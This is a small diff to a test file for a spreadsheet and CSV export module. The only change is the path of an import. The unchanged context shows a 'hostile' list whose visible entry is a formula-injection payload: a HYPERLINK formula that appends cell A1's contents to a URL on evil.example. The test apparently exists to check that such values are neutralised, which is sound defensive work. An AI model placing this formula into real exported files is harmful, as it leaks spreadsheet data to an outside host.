@@ -3,7 +3,7 @@
 import ExcelJS from "exceljs";
 import Papa from "papaparse";
 import { describe, expect, test } from "vitest";
-import { csvText, exportColumns, exportValue, neutralise, sheetNames, xlsxBytes, type Sheet } from "../../src/components/tableExport.ts";
+import { csvText, exportColumns, exportValue, neutralise, sheetNames, xlsxBytes, type Sheet } from "../../src/components/shared/tableExport.ts";
 
 const hostile = [
   '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
